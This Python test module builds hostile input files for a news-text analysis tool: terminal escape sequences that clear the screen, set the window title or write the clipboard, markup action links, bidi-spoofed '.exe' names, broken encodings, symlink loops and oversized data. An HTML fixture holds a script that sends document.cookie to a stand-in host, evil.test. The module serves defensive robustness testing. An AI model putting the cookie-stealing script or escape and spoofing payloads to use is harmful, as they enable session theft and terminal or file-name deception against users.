"""Generators of hostile inputs: each writes one small file (or folder) under a directory and returns its path.

Nothing here is committed as data: every test builds its inputs in ``tmp_path``.
Text fixtures (``TEXT_FIXTURES``) pair their file with its title and a phrase of its
body as they decode, so a test can tell "shown as written" from "dropped".
"""

from __future__ import annotations

import os
import random
import sqlite3
from pathlib import Path

#: A plain sentence the engine can analyse, placed in every text fixture.
LEAD = "Prime Minister Benjamin Netanyahu met President Ilham Aliyev in Baku on Monday.\n\n"

MARKUP = "Aliyev said [@click=app.bell]ring[/] and [/] then [bold red]loud[/bold red] [link=https://x.test]x[/link]."
ESCAPES = (
    "Clear \x1b[2J screen, title \x1b]2;PWNED\x1b\\ set, clipboard \x1b]52;c;SGVsbG8=\x07 written, "
    "link \x1b]8;;https://evil.test\x1b\\click\x1b]8;;\x1b\\ here, C1 CSI \u009b2J and C1 OSC \u009d0;PWNED\u009c end."
)
BIDI = "Netanyahu said \u202eevil.exe\u202c and zero\u200bwidth\u200djoin\ufeffhere \u2066iso\u2069 ok."
WIDE = "東京で会談。 Cafe\u0301 naïve Z\u0351\u0352a\u0353lgo 👍🏽 👨‍👩‍👧 flags 🇮🇱🇹🇷 end."


def _write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


def _article(title: str, body: str) -> str:
    return f"title: {title}\ndate: 2025-02-05\n\n{LEAD}{body}\n"


def _front(title: str) -> bytes:
    return f"title: {title}\ndate: 2025-02-05\n\n".encode()


def markup_article(folder: Path) -> Path:
    """Rich markup and Textual action links in the title and the body."""
    return _write(folder, "markup.txt", _article("Talks [@click=app.bell]bell[/] [bold red]red", MARKUP).encode())


def escape_article(folder: Path) -> Path:
    """ESC, CSI clear-screen, OSC title, OSC 52 clipboard, OSC 8 link and C1 controls (UTF-8 encoded)."""
    return _write(folder, "escapes.txt", _article("Title \x1b]2;PWNED\x1b\\ \x1b[2J", ESCAPES).encode())


def raw_c1_article(folder: Path) -> Path:
    """Raw C1 bytes 0x9b / 0x9d: invalid UTF-8 that must decode with a warning, not a crash."""
    body = LEAD.encode() + b"Raw \x9b2J and \x9d0;PWNED\x07 bytes.\n"
    return _write(folder, "raw-c1.txt", _front("Raw C1 bytes") + body)


def bidi_article(folder: Path) -> Path:
    """Bidi overrides and isolates, zero-width space/joiner and an inner BOM."""
    return _write(folder, "bidi.txt", _article("Report \u202etxt.exe", BIDI).encode())


def invalid_utf8_article(folder: Path) -> Path:
    """Mostly UTF-8 with a stray Latin-1 byte and a truncated sequence."""
    body = LEAD.encode() + b"Caf\xe9 in M\xfcnchen, cut \xe2\x82 here.\n"
    return _write(folder, "latin1.txt", b"title: Caf\xe9 talks\ndate: 2025-02-05\n\n" + body)


def utf16_article(folder: Path) -> Path:
    """UTF-16 with a byte-order mark (as Windows Notepad saves)."""
    return _write(folder, "utf16.txt", ("\ufeff" + _article("UTF-16 talks", "The talks went on.")).encode("utf-16-le"))


def utf16_no_bom_article(folder: Path) -> Path:
    """UTF-16 big-endian with no byte-order mark (as some Windows and mainframe exports save)."""
    return _write(folder, "utf16be.txt", _article("Grüße from UTF-16", "Talks in Köln went on.").encode("utf-16-be"))


def utf32_no_bom_article(folder: Path) -> Path:
    """UTF-32 little-endian with no byte-order mark."""
    return _write(folder, "utf32.txt", _article("UTF-32 talks", "Talks in Zürich went on.").encode("utf-32-le"))


def binary_file(folder: Path) -> Path:
    """Bytes of a PNG header and random noise, named like an article."""
    noise = random.Random(7).randbytes(4096)
    return _write(folder, "image.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + noise)


def empty_file(folder: Path) -> Path:
    return _write(folder, "empty.txt", b"")


def huge_single_line(folder: Path, *, megabytes: int = 20) -> Path:
    """``megabytes`` MB of words on one line, no newline: past spaCy's max_length."""
    sentence = b"Netanyahu met Aliyev in Baku and the talks went on. "
    count = megabytes * 1024 * 1024 // len(sentence)
    return _write(folder, "huge.txt", sentence * count)


def crlf_article(folder: Path) -> Path:
    """Windows line ends in front matter and body."""
    text = _article("CRLF talks", "Aliyev said the talks went well.\n\nThey meet again in May.")
    return _write(folder, "crlf.txt", text.replace("\n", "\r\n").encode())


def wide_article(folder: Path) -> Path:
    """CJK, combining marks, emoji with skin tone, ZWJ families and flags."""
    return _write(folder, "wide.txt", _article("会談 👍🏽", WIDE).encode())


def html_page(folder: Path) -> Path:
    """An HTML page whose script and inline escapes must not become article text or terminal output."""
    page = (
        "<!doctype html><html><head><title>Talks in Baku [bold]x[/]</title>"
        "<script>alert('x'); document.title='\x1b]2;PWNED\x07';</script></head><body><article>"
        f"<h1>Talks in Baku</h1><p>{LEAD.strip()}</p>"
        "<p>Aliyev said the talks on energy and security went well, and that a further round would follow "
        "in Ankara next month. [@click=app.bell]ring[/] &lt;script&gt;alert(1)&lt;/script&gt; \x1b[2J</p>"
        "<script>fetch('https://evil.test/'+document.cookie)</script>"
        "<p>Netanyahu said Israel and Azerbaijan would sign an agreement on water technology.</p>"
        "</article></body></html>"
    )
    return _write(folder, "page.html", page.encode())


def big_feed(folder: Path, *, entries: int = 5000) -> Path:
    """An RSS 2.0 feed of ``entries`` short items, some with markup and escapes in titles."""
    items = []
    for n in range(entries):
        hostile = " [@click=app.bell]x[/] &#x1b;" if n % 500 == 0 else ""
        items.append(
            f"<item><title>Story {n}{hostile}</title><link>https://news.test/{n}</link>"
            f"<guid>https://news.test/{n}</guid><pubDate>Mon, 03 Feb 2025 10:00:00 GMT</pubDate>"
            f"<description>Minister {n} met the mayor of Baku on Monday to talk about water.</description></item>"
        )
    rss = (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Big feed</title>'
        f"<link>https://news.test/</link>{''.join(items)}</channel></rss>"
    )
    return _write(folder, "big.rss", rss.encode())


def malformed_feed(folder: Path) -> Path:
    """Not a feed at all once parsed: unclosed tags, junk, no entries."""
    return _write(folder, "broken.rss", b"<?xml version='1.0'?><rss><channel><title>Br\x00oken<item><<<>>& junk")


def symlink_loop(folder: Path) -> Path:
    """A folder holding one good article and a link back to itself (and a link to its parent)."""
    root = folder / "loop"
    (root / "inner").mkdir(parents=True)
    (root / "inner" / "good.txt").write_text(_article("Loop talks", "The talks went on."), encoding="utf-8")
    os.symlink(root, root / "inner" / "again")
    os.symlink("..", root / "inner" / "up")
    return root


def looping_link(folder: Path) -> Path:
    """An article name that is a link to a link back to it: opening it fails with ELOOP."""
    link = folder / "loop.txt"
    os.symlink(folder / "loop-b.txt", link)
    os.symlink(link, folder / "loop-b.txt")
    return link


def deep_json(folder: Path) -> Path:
    """An array nested 100,000 deep: Python's JSON parser recurses once per level."""
    return _write(folder, "deep.json", b"[" * 100_000 + b"]" * 100_000)


def dangling_symlink(folder: Path) -> Path:
    """An article name pointing nowhere: the honest unreadable file when running as root."""
    link = folder / "gone.txt"
    os.symlink(folder / "no-such-target.txt", link)
    return link


def fifo(folder: Path) -> Path:
    """A named pipe called like an article: reading it would wait forever for a writer."""
    path = folder / "pipe.txt"
    os.mkfifo(path)
    return path


def unreadable_file(folder: Path) -> Path:
    """A file with mode 000 (still readable by root: callers skip when running as root)."""
    path = _write(folder, "secret.txt", LEAD.encode())
    path.chmod(0)
    return path


def hostile_names(folder: Path) -> Path:
    """A folder whose file names carry an OSC title request, a bidi override and a newline."""
    root = folder / "names"
    root.mkdir()
    _write(root, "\x1b]2;PWNED\x07.txt", b"\x00\x01 binary under a hostile name")
    _write(root, "\u202etxt.exe.txt", _article("Bidi name", "The talks went on.").encode())
    _write(root, "two\nlines.txt", b"\x00 binary again")
    return root


def random_bytes_db(path: Path) -> Path:
    path.write_bytes(random.Random(11).randbytes(64 * 1024))
    return path


def foreign_sqlite_db(path: Path) -> Path:
    """A valid SQLite file of another program."""
    db = sqlite3.connect(path)
    db.execute("CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT)")
    db.execute("INSERT INTO moz_places (url) VALUES ('https://example.org')")
    db.commit()
    db.close()
    return path


def truncated_db(source: Path, path: Path, *, keep: int = 6000) -> Path:
    """The first ``keep`` bytes of a real library (its header says more pages than there are)."""
    path.write_bytes(source.read_bytes()[:keep])
    return path


#: Text fixtures: name -> (generator, the title as it decodes, a phrase of the body as it decodes).
TEXT_FIXTURES = {
    "markup": (markup_article, "Talks [@click=app.bell]bell[/] [bold red]red", "[@click=app.bell]ring[/]"),
    "escapes": (escape_article, "Title \x1b]2;PWNED\x1b\\ \x1b[2J", "\x1b]52;c;SGVsbG8=\x07"),
    "raw_c1": (raw_c1_article, "Raw C1 bytes", "Raw \ufffd2J and \ufffd0;PWNED\x07 bytes."),
    "bidi": (bidi_article, "Report \u202etxt.exe", "\u202eevil.exe\u202c"),
    # Undeclared and not UTF-8: detected as a Latin code page (with a warning), so the words survive.
    "invalid_utf8": (invalid_utf8_article, "Café talks", "München"),
    "utf16": (utf16_article, "UTF-16 talks", "The talks went on."),
    # Without a BOM: the zero byte beside each Latin letter tells the width and byte order.
    "utf16_no_bom": (utf16_no_bom_article, "Grüße from UTF-16", "Talks in Köln went on."),
    "utf32_no_bom": (utf32_no_bom_article, "UTF-32 talks", "Talks in Zürich went on."),
    "crlf": (crlf_article, "CRLF talks", "Aliyev said the talks went well.\r\n"),
    "wide": (wide_article, "会談 👍🏽", "Z\u0351\u0352a\u0353lgo 👍🏽 👨\u200d👩\u200d👧"),
}


def write_text_fixtures(folder: Path) -> dict[str, Path]:
    """Every text fixture in ``folder``: name -> path."""
    folder.mkdir(parents=True, exist_ok=True)
    return {name: make(folder) for name, (make, _title, _phrase) in TEXT_FIXTURES.items()}
